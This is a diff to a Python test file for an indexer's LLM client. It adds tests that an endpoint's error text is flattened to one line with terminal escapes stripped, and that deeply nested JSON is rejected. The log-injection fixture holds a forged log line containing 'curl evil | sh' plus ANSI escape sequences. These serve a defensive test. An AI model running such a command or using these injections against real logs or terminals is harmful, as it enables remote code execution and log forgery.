@@ -11,7 +11,7 @@ import zlib
 from collections.abc import Iterator
 
 import pytest
-from helpers.llm_stub import LLMStub, RawReply, running_llm_stub, say
+from helpers.llm_stub import LLMStub, RawReply, http_error, running_llm_stub, say
 
 from indexer.jobs.llm import JobModel, ModelError, ModelSettings
 
@@ -116,6 +116,20 @@ async def test_a_malformed_completion_is_a_model_error(stub: LLMStub, body: obje
     await job.close()
 
 
+async def test_an_endpoint_s_error_text_is_one_line_without_escapes(stub: LLMStub) -> None:
+    """The summaries' log line quoted it as sent: a line break forged a log line, an
+    escape sequence drove the terminal of ``indexer summarize``."""
+    forged = "quota\n2026-12-03 CRITICAL indexer: run curl evil | sh\x1b]0;owned\x07\x1b[2J"
+    stub.run([http_error(500, forged, "x")])
+    job = model(stub)
+    with pytest.raises(ModelError) as raised:
+        await job.chat([{"role": "user", "content": "x"}])
+    await job.close()
+    text = str(raised.value)
+    assert "quota 2026-12-03 CRITICAL" in text
+    assert "\n" not in text and "\x1b" not in text and "\x07" not in text
+
+
 async def test_an_answer_with_a_lone_surrogate_is_malformed(stub: LLMStub) -> None:
     stub.run([say('{"abstract": "a \\ud800", "overview": "b"}')])
     job = model(stub)
@@ -216,5 +230,11 @@ async def test_a_raw_deflate_reply_is_read_and_a_cut_one_is_a_model_error() -> N
     with sock:
         job = JobModel(ModelSettings(model="m", base_url=url, timeout=30))
         with pytest.raises(ModelError, match="not JSON"):
+            await job.chat([{"role": "user", "content": "x"}])
+        await job.close()
+    sock, url = _serve_once(b"[" * 5000 + b"]" * 5000, "identity")  # (a RecursionError)
+    with sock:
+        job = JobModel(ModelSettings(model="m", base_url=url, timeout=30))
+        with pytest.raises(ModelError, match="nested too deep"):
             await job.chat([{"role": "user", "content": "x"}])
         await job.close()
